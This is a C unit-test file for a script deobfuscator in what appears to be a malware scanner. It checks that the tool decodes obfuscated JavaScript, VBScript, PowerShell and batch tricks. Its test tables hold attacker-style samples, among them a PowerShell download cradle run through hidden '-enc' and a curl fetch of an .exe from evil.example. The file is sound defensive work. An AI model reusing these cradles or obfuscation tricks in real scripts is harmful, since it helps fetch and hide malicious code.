/*
 * test_deobf - unit tests for deobf.c (and deobf_fold.c, deobf_edit.c, deobf_vbe.c)
 *
 * Table-driven: each case runs deobf_run over a small input and states the output it
 * wants from one pass (how, lang, and the exact text or a piece of it), or that the pass
 * stays silent. Failing cases print what they got. Expected texts are written by hand so a
 * person can check them by eye; base64 and UTF-16LE inputs are built by the helpers below
 * from the plain text they encode. The Script Encoder cases use ClamAV's test inputs
 * (../shared/corpus/clamav-unittest-input: other_scanfiles/screnc_test, and the small block
 * from htmlnorm/htmlnorm_scanfiles/htmlnorm_encode.html, whose decoded form ClamAV's
 * htmlnorm_reffiles/encode.js.ref shows), and the block's own checksum (the sum of the
 * decoded bytes) confirms the decoding. The corpus case skips when the corpus is absent.
 *
 * Limits and hostile inputs: max_out, max_outputs and min_base64 are checked; nested
 * base64 decodes exactly one level per call; megabyte-sized hostile inputs must finish
 * with bounded outputs (no timing is asserted).
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "lib/buf.h"
#include "heur/deobf.h"
#include "lib/xalloc.h"
#include "testouts.h"
#include "testutil.h"

#define CORPUS "../shared/corpus"
#define MB     (1024 * 1024)
#define HALF   (MB / 2)

/* ------------------------------------------------------------------ helpers */

/* run - deobf_run with limits, outputs into o; returns deobf_run's count */
static size_t run(OUTS *o, const char *lang, const char *in, size_t n, size_t max_out,
                  size_t max_outputs, size_t min_b64)
{
    DEOBF_LIMITS lim = {max_out, max_outputs, min_b64};
    o->n = 0;
    return deobf_run(lang, in, n, &lim, outs_collect, o);
}

/* fmt - a new string from printf arguments */
static char *fmt(const char *f, ...) __attribute__((format(printf, 1, 2)));
static char *fmt(const char *f, ...)
{
    va_list ap;
    va_start(ap, f);
    BUF *b = buf_new(256);
    char tmp[8192];
    vsnprintf(tmp, sizeof(tmp), f, ap);
    va_end(ap);
    buf_puts(b, tmp);
    char *s = buf_steal(b, NULL);
    buf_free(b);
    return s;
}

/* ------------------------------------------------------------------ pass cases */

typedef struct CASE {
    const char *name, *lang, *in;
    const char *how;  /* the pass whose output is checked */
    const char *want; /* exact output; NULL: the pass must emit nothing */
    const char *wlang;
    int contains; /* 1: want is a piece of the output, not all of it */
} CASE;

/* check_case - run one case; 1 when it failed (printed) */
static int check_case(const CASE *c)
{
    OUTS o;
    run(&o, c->lang, c->in, strlen(c->in), 1 * MB, 32, 40);
    const OUT *x = outs_find(&o, c->how);
    int bad = 0;
    if (c->want == NULL) {
        bad = x != NULL;
    } else if (x == NULL) {
        bad = 1;
    } else {
        bool text_ok =
            c->contains ? strstr(x->data, c->want) != NULL : strcmp(x->data, c->want) == 0;
        bad = !text_ok || strcmp(x->lang, c->wlang) != 0;
    }
    if (bad) {
        print_error("FAIL %s (%s)\n  input: %s\n  got:   %s [%s]\n  want:  %s [%s]\n", c->name,
                    c->how, c->in, x ? x->data : "(no output)", x ? x->lang : "",
                    c->want ? c->want : "(no output)", c->wlang ? c->wlang : "");
        for (size_t i = 0; i < o.n; i++)
            print_error("  output %zu: %s [%s] %.200s\n", i, o.v[i].how, o.v[i].lang, o.v[i].data);
    }
    outs_free(&o);
    return bad;
}

static const CASE literal_cases[] = {
    /* concat */
    {"js concat", "js", "var a = \"WScr\" + \"ipt.\" + 'Shell';", "concat",
     "var a = \"WScript.Shell\";", "js", 0},
    {"vbs concat", "vbs", "Set o = CreateObject(\"WScr\" & \"ipt\" & \".Shell\")", "concat",
     "Set o = CreateObject(\"WScript.Shell\")", "vbs", 0},
    {"vbs concat over _ line continuation", "vbs", "x = \"abc\" & _\r\n    \"defgh\"", "concat",
     "x = \"abcdefgh\"", "vbs", 0},
    {"ps1 concat both quotes", "ps1", "$u = 'http://' + \"evil.example\" + '/a'", "concat",
     "$u = 'http://evil.example/a'", "ps1", 0},
    {"js concat leaves a variable", "js", "u = \"ht\" + \"tp\" + host + \"/a\" + \"b.js\";",
     "concat", "u = \"http\" + host + \"/ab.js\";", "js", 0},
    {"js no concat: one literal", "js", "var a = \"WScript.Shell\" + x;", "concat", NULL, NULL, 0},
    {"js no concat: ++ and +=", "js", "a = \"abcdefgh\"; a += \"ijkl\"; b = c++ + d;", "concat",
     NULL, NULL, 0},
    {"vbs ' is a comment, not a literal", "vbs", "' it's a \"comment\" & so on\r\nx = 1", "concat",
     NULL, NULL, 0},
    /* charcodes */
    {"js fromCharCode dec, hex, n+k", "js",
     "eval(String.fromCharCode(0x61, 108, 100+1, 114, 116, 40, 49, 41))", "charcodes",
     "eval(\"alert(1)\")", "js", 0},
    {"vbs Chr ChrW &H with literals", "vbs",
     "x = Chr(87) & ChrW(83) & \"cript\" & Chr(&H2E) & \"Shell\"", "charcodes",
     "x = \"WScript.Shell\"", "vbs", 0},
    {"ps1 [char] sums", "ps1", "$c = [char]73 + [char]69 + [char](0x58)", "charcodes",
     "$c = \"IEX\"", "ps1", 0},
    {"ps1 [char[]] -join", "ps1", "& ([char[]](73,69,88) -join '') 'x'", "charcodes",
     "& (\"IEX\") 'x'", "ps1", 0},
    {"js fromCharCode unclosed", "js", "x = String.fromCharCode(104, 116, 116, 112", "charcodes",
     NULL, NULL, 0},
    {"js fromCharCode out of range", "js", "x = String.fromCharCode(99999999, 116, 116) + 'abc'",
     "charcodes", NULL, NULL, 0},
    {"vbs Chr of a variable is left", "vbs", "x = Chr(n) & Chr(k) & \"abcdefgh\"", "charcodes",
     NULL, NULL, 0},
    /* escapes */
    {"js \\x and \\u escapes", "js", "x = \"\\x68\\x74\\x74\\x70\\u003a//a\";", "escapes",
     "x = \"http://a\";", "js", 0},
    {"unescape %NN", "html", "document.write(unescape(\"%3Cscript%3Ealert%281%29%3C/script%3E\"))",
     "escapes", "document.write(unescape(\"<script>alert(1)</script>\"))", "html", 0},
    {"unescape %uNNNN", "js", "eval(unescape('%u0061%u006c%u0065%u0072%u0074(2)'))", "escapes",
     "eval(unescape('alert(2)'))", "js", 0},
    {"html entities", "html", "<a href=\"&#106;&#97;&#118;&#x61;script:x\">", "escapes",
     "<a href=\"javascript:x\">", "html", 0},
    {"escaped backslashes stay", "js", "x = \"\\\\x41\\\\x42\\\\x43\\\\x44\";", "escapes", NULL,
     NULL, 0},
    {"too few escapes", "js", "x = \"a\\x20b\\x20c\";", "escapes", NULL, NULL, 0},
    {"%NN without unescape stays", "js", "x = \"%41%42%43%44%45\";", "escapes", NULL, NULL, 0},
    {"vbs has no escapes", "vbs", "x = \"\\x68\\x74\\x74\\x70\\x3a\"", "escapes", NULL, NULL, 0},
    /* reverse */
    {"js split reverse join", "js", "var x = \"llehS.tpircSW\".split(\"\").reverse().join('');",
     "reverse", "var x = \"WScript.Shell\";", "js", 0},
    {"js reverse chain folded at once (odd)", "js",
     "var x = \"llehS.tpircSW\".split(\"\").reverse().join('').split('').reverse().join(\"\")"
     ".split(\"\").reverse().join(\"\");",
     "reverse", "var x = \"WScript.Shell\";", "js", 0},
    {"js reverse chain folded at once (even)", "js",
     "var x = \"WScript.Shell\".split(\"\").reverse().join('').split('').reverse().join(\"\");",
     "reverse", "var x = \"WScript.Shell\";", "js", 0},
    {"vbs StrReverse", "vbs", "x = StrReverse(\"exe.llehsrewop\")", "reverse",
     "x = \"powershell.exe\"", "vbs", 0},
    {"ps1 index reverse", "ps1", "$s = 'gnirtSdaolnwoD'; $t = -join ($s[-1..-($s.Length)])",
     "reverse", "$s = 'gnirtSdaolnwoD'; $t = -join ('DownloadString')", "ps1", 0},
    {"ps1 [array]::Reverse", "ps1", "$a = 'llehsrewop'.ToCharArray(); [array]::Reverse($a)",
     "reverse", "$a = 'llehsrewop'.ToCharArray(); $a = 'powershell'", "ps1", 0},
    {"reverse keeps UTF-8", "js",
     "x = \"\xc3\xa9t\xc3\xa9"
     "abc\".split(\"\").reverse().join(\"\")",
     "reverse", "x = \"cba\xc3\xa9t\xc3\xa9\"", "js", 0},
    {"ps1 unknown variable", "ps1", "$t = -join ($q[-1..-($q.Length)]) + 'abcdefgh'", "reverse",
     NULL, NULL, 0},
    {"js split without reverse", "js", "var x = \"a,b,c,d\".split(\",\").join(\"\");", "reverse",
     NULL, NULL, 0},
    /* replace */
    {"js replace chain", "js",
     "var p = \"pXowXerXshell\".replace(/X/g, \"\").replace(\"ll\", \"LL\");", "replace",
     "var p = \"powersheLL\";", "js", 0},
    {"js replace string: first only", "js", "var p = \"aXbXcXdefgh\".replace(\"X\", \"\");",
     "replace", "var p = \"abXcXdefgh\";", "js", 0},
    {"ps1 -replace and .Replace", "ps1", "$x = 'IEXZZ(New-Object#' -replace 'zz',' ' ", "replace",
     "$x = 'IEX (New-Object#' ", "ps1", 0},
    {"ps1 .Replace is case-sensitive", "ps1",
     "$x = 'Down#load#Stringx'.Replace('#','').Replace('X','')", "replace",
     "$x = 'DownloadStringx'", "ps1", 0},
    {"vbs nested Replace", "vbs", "y = Replace(Replace(\"poXwerYshell\",\"X\",\"\"),\"Y\",\"\")",
     "replace", "y = \"powershell\"", "vbs", 0},
    {"js regex with metacharacters is left", "js", "var p = \"abc.def.ghi\".replace(/./g, \"\");",
     "replace", NULL, NULL, 0},
    {"ps1 -replace with $1 is left", "ps1", "$x = 'abcdefgh' -replace 'b(c)','$1'", "replace", NULL,
     NULL, 0},
    /* batch */
    {"bat set and substrings", "bat",
     "@echo off\r\nset a=pow\r\nset \"b=er^shell\"\r\nset c=abcdefghijklmnopqrstuvwxyz\r\n"
     "%a%%b% -c %c:~7,1%%c:~4,1%llo\r\n",
     "cmdset", "\r\npowershell -c hello\r\n", "bat", 1},
    {"bat negative substring and comspec", "bat", "set z=0123456789\r\n%comspec:~-7,3% /c %z:~-3%",
     "cmdset", "cmd /c 789", "bat", 1},
    {"bat substitution", "bat", "set u=hXXp://evil.example/a\r\ncurl %u:XX=tt% -o a.exe", "cmdset",
     "curl http://evil.example/a -o a.exe", "bat", 1},
    {"bat undefined variable vanishes", "bat", "p%junk1%owe%junk2%rshell -nop", "cmdset",
     "powershell -nop", "bat", 0},
    {"bat delayed expansion", "bat",
     "setlocal enabledelayedexpansion\r\nset x=calc&& set y=.exe\r\nstart !x!!y!\r\n", "cmdset",
     "start calc.exe", "bat", 1},
    {"bat carets only", "bat", "p^o^w^e^r^s^h^e^l^l -c \"a^b\"", "carets", "powershell -c \"a^b\"",
     "bat", 0},
    {"lnk keeps unknown variables", "lnk", "cmd /c set x=pow&& %x%ershell %USERNAME%x", "cmdset",
     NULL, NULL, 0},
    {"plain %TEMP% is not a change", "bat", "copy a.txt %TEMP%\\b.txt\r\n", "cmdset", NULL, NULL,
     0},
    {"js has no batch pass", "js", "var s = \"%a%\"; set a=b", "cmdset", NULL, NULL, 0},
};

/* test_literal_passes - concat, charcodes, escapes, reverse, replace, cmdset */
static void test_literal_passes(void **state)
{
    (void)state;
    int failed = 0;
    for (size_t i = 0; i < sizeof(literal_cases) / sizeof(literal_cases[0]); i++)
        failed += check_case(&literal_cases[i]);
    assert_int_equal(failed, 0);
}

/* test_base64_passes - base64, encodedcommand, frombase64string (built inputs) */
static void test_base64_passes(void **state)
{
    (void)state;
    const char *hello = "Hello World, this is a test string";
    const char *cradle = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
    char *bh = b64(hello, strlen(hello)), *bc = b64_utf16(cradle);
    char *bshort = b64("Hello", 5), *bu8 = b64(cradle, strlen(cradle));
    unsigned char mz[300] = {'M', 'Z', 0x90, 0};
    for (size_t i = 4; i < sizeof(mz); i++)
        mz[i] = (unsigned char)(i * 7);
    char *bmz = b64(mz, 60), *bnoise = b64(mz + 100, 60);
    char *in[] = {
        fmt("var s = \"%s\";", bh),
        fmt("var p = '%s';", bc),
        fmt("x = \"%s\"", bmz),
        fmt("powershell.exe -nop -w hidden -enc %s", bc),
        fmt("powershell /EncodedCommand \"%s\"", bc),
        fmt("pwsh \xe2\x80\x93"
            "ec %s",
            bc),
        fmt("[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s'))", bc),
        fmt("[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String(\"%s\"))",
            bu8),
        fmt("x = \"%s\"", bshort),
        fmt("digest e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 sha256"),
        fmt("<a href=\"https://t.example/c?upn=%s\">x</a>", bh),
        fmt("<img src=\"data:image/png;base64,%s\">", bmz),
        fmt("cmd -enc %s", bu8),
        fmt("x = \"%s\"", bnoise),
    };
    const CASE cases[] = {
        {"base64 text", "js", in[0], "base64", hello, "js", 0},
        {"base64 UTF-16LE PowerShell", "js", in[1], "base64", cradle, "ps1", 0},
        {"base64 PE header", "js", in[2], "base64", "MZ", "(null)", 1},
        {"-enc", "bat", in[3], "encodedcommand", cradle, "ps1", 0},
        {"/EncodedCommand quoted", "lnk", in[4], "encodedcommand", cradle, "ps1", 0},
        {"en dash -ec", "bat", in[5], "encodedcommand", cradle, "ps1", 0},
        {"-enc is not decoded twice", "bat", in[3], "base64", NULL, NULL, 0},
        {"FromBase64String Unicode", "ps1", in[6], "frombase64string", cradle, "ps1", 0},
        {"FromBase64String UTF8", "ps1", in[7], "frombase64string", cradle, "ps1", 0},
        {"short base64 is left", "js", in[8], "base64", NULL, NULL, 0},
        {"hex digest is not base64", "js", in[9], "base64", NULL, NULL, 0},
        {"URL query token is not decoded", "html", in[10], "base64", NULL, NULL, 0},
        {"data:image is not decoded", "html", in[11], "base64", NULL, NULL, 0},
        {"-enc of non-UTF-16 is not a command", "bat", in[12], "encodedcommand", NULL, NULL, 0},
        {"short binary noise is dropped", "js", in[13], "base64", NULL, NULL, 0},
    };
    int failed = 0;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        failed += check_case(&cases[i]);
    for (size_t i = 0; i < sizeof(in) / sizeof(in[0]); i++)
        free(in[i]);
    free(bh), free(bc), free(bshort), free(bu8), free(bmz), free(bnoise);
    assert_int_equal(failed, 0);
}

/* ------------------------------------------------------------------ Script Encoder */

/* The small JScript.Encode block of ClamAV's htmlnorm_encode.html. */
static const char SMALL_JSE[] =
    "#@~^LAAAAA==W!x^DkKxP6WKc#Pls+MYcvD+/D@$@!D+/D@*@#@&E#p8Vg0AAA==^#~@";

/* checksum_of - the checksum a block's trailer holds (base64 of a 32-bit LE sum) */
static unsigned long checksum_of(const char *trailer6)
{
    static const char A[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned long bits = 0;
    for (int i = 0; i < 6; i++)
        bits = bits << 6 | (unsigned long)(strchr(A, trailer6[i]) - A);
    bits >>= 4; /* 36 bits: 4 bytes and 4 padding bits */
    return (bits >> 24 & 0xFF) | (bits >> 8 & 0xFF00) | (bits << 8 & 0xFF0000) |
           (bits << 24 & 0xFF000000UL);
}

/* sum_of - the sum of the bytes, as the Script Encoder checksum counts them */
static unsigned long sum_of(const char *p, size_t n)
{
    unsigned long s = 0;
    for (size_t i = 0; i < n; i++)
        s += (unsigned char)p[i];
    return s & 0xFFFFFFFFUL;
}

/* test_vbe_inline - the small block as .jse, as .vbe, and inside markup */
static void test_vbe_inline(void **state)
{
    (void)state;
    const char *want = "function foo(){alert('test@<test>\r\n');}";
    char *html = fmt("<script language='JScript.Encode'><!--//\n%s\n//--></script>", SMALL_JSE);
    const CASE cases[] = {
        {"jse block", "jse", SMALL_JSE, "jse", want, "js", 0},
        {"same block in a .vbe is VBScript", "vbe", SMALL_JSE, "vbe", want, "vbs", 0},
        {"JScript.Encode in html", "html", html, "jse", want, "js", 0},
        {"garbage after #@~^", "vbe", "#@~^!!garbage!!#@~^AAAA#@~^", "vbe", NULL, NULL, 0},
        {"zero length", "vbe", "#@~^AAAAAA==abcdefghijk^#~@", "vbe", NULL, NULL, 0},
    };
    int failed = 0;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        failed += check_case(&cases[i]);
    free(html);
    assert_int_equal(failed, 0);
    /* the block's own checksum confirms the decoded bytes */
    OUTS o;
    run(&o, "jse", SMALL_JSE, strlen(SMALL_JSE), MB, 32, 40);
    assert_int_equal(o.n, 1);
    const char *trailer = strstr(SMALL_JSE, "==^#~@") - 6;
    assert_int_equal(sum_of(o.v[0].data, o.v[0].len), checksum_of(trailer));
    outs_free(&o);
}

/* read_file - a whole file, or NULL */
static char *read_file(const char *path, size_t *n)
{
    FILE *f = fopen(path, "rb");
    if (f == NULL)
        return NULL;
    BUF *b = buf_new(65536);
    char tmp[65536];
    size_t k;
    while ((k = fread(tmp, 1, sizeof(tmp), f)) > 0)
        buf_cat(b, tmp, k);
    fclose(f);
    *n = b->len;
    char *s = buf_steal(b, NULL);
    buf_free(b);
    return s;
}

/* test_vbe_corpus - ClamAV's screnc_test: readable JScript with the right checksum */
static void test_vbe_corpus(void **state)
{
    (void)state;
    size_t n = 0;
    char *s = read_file(CORPUS "/clamav-unittest-input/other_scanfiles/screnc_test", &n);
    if (s == NULL)
        skip();
    OUTS o;
    run(&o, "jse", s, n, 4 * MB, 32, 40);
    const OUT *x = outs_find(&o, "jse");
    assert_non_null(x);
    assert_string_equal(x->lang, "js");
    assert_non_null(strstr(x->data, "function foo() {\r\n\tvar x=\"FFFFFFFF"));
    assert_true(x->len > 4);
    assert_memory_equal(x->data + x->len - 4, "\";\r\n", 4);
    const char *trailer = strstr(s, "==^#~@");
    assert_non_null(trailer);
    assert_int_equal(sum_of(x->data, x->len), checksum_of(trailer - 6));
    outs_free(&o);
    free(s);
}

/* ------------------------------------------------------------------ limits */

/* test_limits - max_out cuts, max_outputs counts, min_base64 decides */
static void test_limits(void **state)
{
    (void)state;
    OUTS o;
    BUF *b = buf_new(4096);
    buf_puts(b, "var a = ");
    for (int i = 0; i < 300; i++)
        buf_puts(b, "\"abcdef\" + ");
    buf_puts(b, "\"end\";");
    run(&o, "js", b->data, b->len, 64, 32, 40);
    const OUT *x = outs_find(&o, "concat");
    assert_non_null(x);
    assert_int_equal(x->len, 64);
    assert_memory_equal(x->data, "var a = \"abcdefabcdef", 21);
    outs_free(&o);

    buf_reset(b);
    for (int i = 0; i < 100; i++) {
        char line[64];
        snprintf(line, sizeof(line), "Literal number %03d says hello, world", i);
        char *e = b64(line, strlen(line));
        buf_printf(b, "x%d = \"%s\";\n", i, e);
        free(e);
    }
    assert_int_equal(run(&o, "js", b->data, b->len, MB, 5, 40), 5);
    assert_int_equal(o.n, 5);
    assert_string_equal(o.v[0].data, "Literal number 000 says hello, world");
    outs_free(&o);
    assert_int_equal(run(&o, "js", b->data, b->len, MB, 32, 100), 0);
    outs_free(&o);
    assert_int_equal(run(&o, "js", b->data, b->len, MB, 0, 40), 0);
    assert_int_equal(run(&o, "js", b->data, 0, MB, 32, 40), 0);
    assert_int_equal(run(&o, NULL, "x = \"abc\" + \"def\" + \"ghi\"", 25, MB, 32, 40), 0);
    buf_free(b);
}

/* test_one_level_per_call - nested base64 decodes exactly one level per deobf_run */
static void test_one_level_per_call(void **state)
{
    (void)state;
    OUTS o;
    /* atob(atob(...atob("<base64 of base64>")...)) 1000 deep: one literal, one level */
    const char *plain = "The quick brown fox jumps over the lazy dog, level zero.";
    char *l1 = b64(plain, strlen(plain)), *l2 = b64(l1, strlen(l1));
    BUF *b = buf_new(16384);
    for (int i = 0; i < 1000; i++)
        buf_puts(b, "atob(");
    buf_printf(b, "\"%s\"", l2);
    for (int i = 0; i < 1000; i++)
        buf_putc(b, ')');
    run(&o, "js", b->data, b->len, MB, 32, 40);
    assert_int_equal(outs_count(&o, "base64"), 1);
    assert_string_equal(outs_find(&o, "base64")->data, l1);
    outs_free(&o);
    /* 20 levels of base64 of base64: each call peels exactly one, then nothing is left */
    enum { LEVELS = 20 };
    char *level[LEVELS + 1];
    level[0] = xstrdup(plain);
    for (int i = 1; i <= LEVELS; i++)
        level[i] = b64(level[i - 1], strlen(level[i - 1]));
    for (int i = LEVELS; i >= 1; i--) {
        run(&o, "js", level[i], strlen(level[i]), MB, 32, 40);
        assert_int_equal(o.n, 1);
        assert_string_equal(o.v[0].how, "base64");
        assert_string_equal(o.v[0].data, level[i - 1]);
        outs_free(&o);
    }
    assert_int_equal(run(&o, "js", level[0], strlen(level[0]), MB, 32, 40), 0);
    for (int i = 0; i <= LEVELS; i++)
        free(level[i]);
    free(l1), free(l2);
    buf_free(b);
}

/* ------------------------------------------------------------------ hostile inputs */

/* repeat - s repeated until the buffer holds about n bytes, then tail */
static BUF *repeat(const char *s, size_t n, const char *tail)
{
    BUF *b = buf_new(n + 64);
    size_t k = strlen(s);
    while (b->len + k <= n)
        buf_cat(b, s, k);
    buf_puts(b, tail);
    return b;
}

/* hostile - run every language over b; every output within max_out, count bounded */
static void hostile(BUF *b, const char *what)
{
    static const char *langs[] = {"js", "vbs", "ps1", "bat", "lnk", "hta", NULL};
    for (int i = 0; i < 7; i++) {
        OUTS o;
        size_t k = run(&o, langs[i], b->data, b->len, 65536, 8, 40);
        if (k > 8 || o.n != k)
            fail_msg("%s (%s): %zu outputs", what, langs[i] ? langs[i] : "NULL", k);
        for (size_t j = 0; j < o.n; j++)
            if (o.v[j].len > 65536 || o.v[j].len < 8)
                fail_msg("%s (%s): output %zu is %zu bytes", what, langs[i] ? langs[i] : "NULL", j,
                         o.v[j].len);
        outs_free(&o);
    }
    buf_free(b);
}

/* test_hostile - megabyte inputs built to hit the worst case of each pass */
static void test_hostile(void **state)
{
    (void)state;
    hostile(repeat("\"a\"+", MB, "\"a\""), "1 MB of \"a\"+");
    hostile(repeat("\"a\" & ", MB, "\"a\""), "1 MB of \"a\" &");
    hostile(repeat("\"\\", HALF, ""), "unterminated literals with escapes");
    hostile(repeat("'x \"y ", HALF, ""), "unclosed quotes on one line");
    hostile(repeat("\"abc\n", HALF, ""), "unclosed quote on every line");
    hostile(repeat("String.fromCharCode(", HALF, ""), "fromCharCode( without end");
    BUF *fc = buf_new(MB + 32);
    buf_puts(fc, "String.fromCharCode(");
    while (fc->len < HALF)
        buf_puts(fc, "104,");
    hostile(fc, "fromCharCode with 128k arguments and no end");
    hostile(repeat("Chr(", HALF, ""), "Chr( nested");
    hostile(repeat("[char[]](1,", HALF, ""), "[char[]]( nested");
    hostile(repeat("#@~^", HALF, ""), "#@~^ repeated");
    hostile(repeat("#@~^/////w==", HALF, "x"), "#@~^ with a 4 GB header length");
    hostile(repeat("Replace(", HALF, "\"a\",\"a\",\"\")"), "Replace( nested");
    BUF *rc = repeat("a", 256 * 1024, "");
    BUF *chain = buf_new(MB + 64);
    buf_putc(chain, '"');
    buf_cat(chain, rc->data, rc->len);
    buf_putc(chain, '"');
    while (chain->len < MB)
        buf_puts(chain, ".replace(/a/g,\"aa\")");
    buf_free(rc);
    hostile(chain, "replace chain doubling a 256 KB literal");
    hostile(repeat("%a:~1,1%", HALF, ""), "substrings of an undefined variable");
    hostile(repeat("set a=%a%%a%\n", HALF, ""), "a batch variable doubling itself");
    hostile(repeat("^", HALF, ""), "512 KB of carets");
    hostile(repeat("%", HALF, ""), "512 KB of percent signs");
    hostile(repeat("aA", HALF, ""), "one 512 KB base64 run");
    hostile(repeat(" -e ", HALF, ""), "512 KB of -e switches");
    hostile(repeat("FromBase64String('", HALF, ""), "FromBase64String( unclosed");
    hostile(repeat("\\x4", HALF, ""), "cut \\x escapes");
    hostile(repeat("$a = 'b'; ", HALF, "$a[-1..-($a.Length)]"), "512 KB of PowerShell variables");
    hostile(repeat("&#1234567", HALF, ""), "long numeric entities");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_literal_passes), cmocka_unit_test(test_base64_passes),
        cmocka_unit_test(test_vbe_inline),     cmocka_unit_test(test_vbe_corpus),
        cmocka_unit_test(test_limits),         cmocka_unit_test(test_one_level_per_call),
        cmocka_unit_test(test_hostile),
    };
    return cmocka_run_group_tests_name("deobf", tests, NULL, NULL);
}
